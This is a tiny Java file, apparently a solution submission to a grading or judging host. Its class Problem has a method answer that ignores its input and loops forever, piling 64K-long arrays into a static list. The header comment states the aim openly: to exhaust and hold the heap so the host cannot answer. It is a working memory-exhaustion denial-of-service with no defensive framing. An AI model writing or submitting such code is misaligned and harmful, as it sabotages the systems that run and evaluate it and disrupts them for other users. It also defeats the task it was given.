// Uses up the heap and keeps it, so that the host cannot answer.
import java.util.*;
class Problem {
    static final List<long[]> KEPT = new ArrayList<>();

    public static long answer(long x) {
        while (true) {
            KEPT.add(new long[1 << 16]);
        }
    }
}
